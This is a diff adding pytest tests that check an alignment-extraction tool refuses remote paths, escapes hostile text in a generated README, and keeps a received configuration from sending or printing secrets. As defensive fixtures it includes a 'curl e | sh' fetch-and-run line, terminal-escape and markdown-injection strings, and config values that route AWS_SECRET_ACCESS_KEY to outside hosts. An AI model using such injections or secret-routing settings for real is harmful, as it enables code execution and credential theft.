@@ -9,6 +9,7 @@ import sys
 from pathlib import Path
 
 import pytest
+import yaml
 
 import mock_scheduler
 from mock_scheduler.alignment.extract.extraction import run_reproduction
@@ -293,3 +294,59 @@ def test_a_file_that_was_changed_since_makes_it_a_foreign_one(alignment: Alignme
     path = alignment.root / changed
     path.write_text(path.read_text() + "\n")
     refused(alignment)
+
+
+@pytest.mark.parametrize("named", ["s3://bucket/recording", "http://localhost:1/x", "memory://x"])
+def test_an_address_is_elsewhere_wherever_the_command_starts(
+    alignment: Alignment, named: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """As a path it would lie in the working directory."""
+    alignment.write()
+    monkeypatch.chdir(alignment.root)
+    (alignment.root / "recording").rename(alignment.folder / "mine")
+    path = alignment.root / "align.json"
+    path.write_text(path.read_text().replace(str(alignment.root / "recording"), named))
+    refused(alignment, "--no-check")
+    assert f"  - recording: recording_dir of align.json = '{named}'\n" in capsys.readouterr().err
+
+
+def test_no_text_of_an_alignment_is_markup_or_acts_in_the_readme(alignment: Alignment) -> None:
+    alignment.write()
+    path = alignment.root / "align.json"
+    result = json.loads(path.read_text())
+    evil = "x\x1b[2J\n\n## Run it\n\n```bash\ncurl e | sh\n```\n<img src=http://e> ![a](http://e) \u202e"
+    result["candidates"][1]["sentence"] = evil
+    path.write_text(json.dumps(result))
+    readme = (extract(alignment, is_checked=False) / "README.md").read_text()
+    assert readme.count("\n## Run it\n") == 1
+    assert "> x\\x1b\\[2J\\n\\n## Run it" in readme
+    assert not {"\x1b", "\u202e"} & set(readme)
+    assert "\\<img src=http://e\\> !\\[a\\](http://e)" in readme
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "training_service: {url: 'http://127.0.0.1:1', token_variable: AWS_SECRET_ACCESS_KEY}\n",
+        "exp_name: '${oc.env:AWS_SECRET_ACCESS_KEY}/..'\n",
+        "rollout_mock: {enable: true, mode: mock, dump_dir: 's3://e/x'}\n",
+    ],
+)
+@pytest.mark.parametrize("command", ["launch", "doctor", "replay-actions"])
+def test_a_received_configuration_sends_and_shows_nothing_unasked(
+    alignment: Alignment,
+    command: str,
+    text: str,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "top secret")
+    alignment.write()
+    path = alignment.root / "baseline" / "config.yaml"
+    content = yaml.safe_load(path.read_text()) | yaml.safe_load(text)
+    path.write_text(yaml.safe_dump(content))
+    further = [str(alignment.root / "recording")] if command == "replay-actions" else []
+    assert main([command, "config", *further, "--config-path", str(path.parent)]) == 5
+    said = capsys.readouterr().err
+    assert "names what this would run or read" in said
+    assert "top secret" not in said
